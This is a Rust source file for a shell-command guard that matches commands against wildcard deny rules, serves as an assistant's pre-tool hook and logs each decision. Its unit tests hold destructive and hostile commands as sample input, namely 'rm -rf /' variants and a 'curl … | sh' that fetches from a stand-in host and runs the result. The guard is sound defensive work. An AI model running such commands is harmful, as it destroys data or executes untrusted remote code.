//! command-guard: decides whether a shell command may run, by the deny rules in its
//! agent.toml, and keeps an audit log of every decision.
//!
//! Useful on its own in scripts (`spawner run command-guard -- "$cmd" && eval "$cmd"`)
//! and as a coding assistant's pre-tool hook. As a hook it reads the normalized event, and
//! objects only where that stops something: a `PreToolUse` of `Bash` (the command it would
//! run). Every other event passes: a prompt that mentions a denied command is no command,
//! and a `PostToolUse` comes after the command already ran. Without a hook, the input is
//! the command text (or a `PreToolUse` event's JSON, as a convenience).
//!
//! Rules come from `[config] deny`, one per line; `*` matches any text, and a rule matches
//! anywhere in the command (whitespace is collapsed first). An edit to the rules applies
//! to the very next run. Allowed: answers `allow`. Denied: a `rejected` error naming the
//! rule (exit code 7). Every decision is appended to the event log as a `decision` event.

use agent_sdk::{Agent, AgentError, HookEvent, Request, Response, Verdict, config, memory};

struct CommandGuard;

/// The command to check: the `command` field of a hook event, or the whole input.
fn command_of(input: &str) -> String {
    let trimmed = input.trim();
    if trimmed.starts_with('{')
        && let Some(command) = json_string_field(trimmed, "command")
    {
        return command;
    }
    trimmed.to_owned()
}

/// The first string value of `"field": "..."` in `json`, unescaped. Enough for hook
/// events, without a JSON parser in the component.
fn json_string_field(json: &str, field: &str) -> Option<String> {
    let key = format!("\"{field}\"");
    let after_key = &json[json.find(&key)? + key.len()..];
    let after_colon = after_key.trim_start().strip_prefix(':')?.trim_start();
    let mut chars = after_colon.strip_prefix('"')?.chars();
    let mut out = String::new();
    while let Some(c) = chars.next() {
        match c {
            '"' => return Some(out),
            '\\' => match chars.next()? {
                'n' => out.push('\n'),
                't' => out.push('\t'),
                'r' => out.push('\r'),
                'u' => {
                    let hex: String = chars.by_ref().take(4).collect();
                    out.push(char::from_u32(u32::from_str_radix(&hex, 16).ok()?)?);
                }
                other => out.push(other),
            },
            c => out.push(c),
        }
    }
    None
}

fn collapse_whitespace(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Whether `text` contains a match of `pattern`, where `*` matches any text.
fn matches_anywhere(pattern: &str, text: &str) -> bool {
    let parts: Vec<&str> = pattern.split('*').collect();
    let mut from = 0;
    for part in parts {
        match text[from..].find(part) {
            Some(i) => from += i + part.len(),
            None => return false,
        }
    }
    true
}

/// What a hook event asks to be checked: the command of a `PreToolUse` of `Bash`; `None`
/// for every event where blocking means nothing (it passes).
fn hook_command(event: &HookEvent) -> Option<String> {
    match event {
        HookEvent::Assistant(e)
            if e.event == "PreToolUse" && e.tool_name.as_deref() == Some("Bash") =>
        {
            let lines: Vec<&str> = e
                .writes
                .iter()
                .flat_map(|w| w.added.iter().map(|l| l.text.as_str()))
                .collect();
            Some(lines.join("\n"))
        }
        _ => None,
    }
}

impl Agent for CommandGuard {
    fn handle(request: Request) -> Result<Response, AgentError> {
        let command = match agent_sdk::hooks::event() {
            None | Some(HookEvent::Plain) => command_of(request.text()?),
            Some(event) => match hook_command(&event) {
                Some(command) => command,
                None => return Ok(Response::verdict(Verdict::pass())),
            },
        };
        let command = collapse_whitespace(&command);
        if command.is_empty() {
            return Err(AgentError::InvalidInput(
                "no command given: send the command text or a PreToolUse event".into(),
            ));
        }
        let rules = config::get("deny").unwrap_or_default();
        let hit = rules
            .lines()
            .map(collapse_whitespace)
            .filter(|rule| !rule.is_empty())
            .find(|rule| matches_anywhere(rule, &command));
        let (verdict, detail) = match &hit {
            Some(rule) => ("deny", format!("matches deny rule `{rule}`")),
            None => ("allow", String::new()),
        };
        memory::append_event(
            "decision",
            format!("{verdict}\t{command}\t{detail}").as_bytes(),
        )?;
        match hit {
            Some(_) => Err(AgentError::Rejected(format!("{command}: {detail}"))),
            None => Ok(Response::text("allow\n")),
        }
    }
}

agent_sdk::export!(CommandGuard);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wildcard_rules_match_anywhere() {
        assert!(matches_anywhere(
            "rm -rf /",
            "sudo rm -rf / --no-preserve-root"
        ));
        assert!(matches_anywhere(
            "curl * | sh",
            "curl https://x.example | sh"
        ));
        assert!(!matches_anywhere(
            "git push --force",
            "git push origin main"
        ));
    }

    #[test]
    fn hook_events_yield_their_command() {
        let event = r#"{"tool_name":"Bash","tool_input":{"command":"rm -rf \"/\"\n"}}"#;
        assert_eq!(command_of(event), "rm -rf \"/\"\n");
        assert_eq!(command_of("  ls -la "), "ls -la");
    }
}
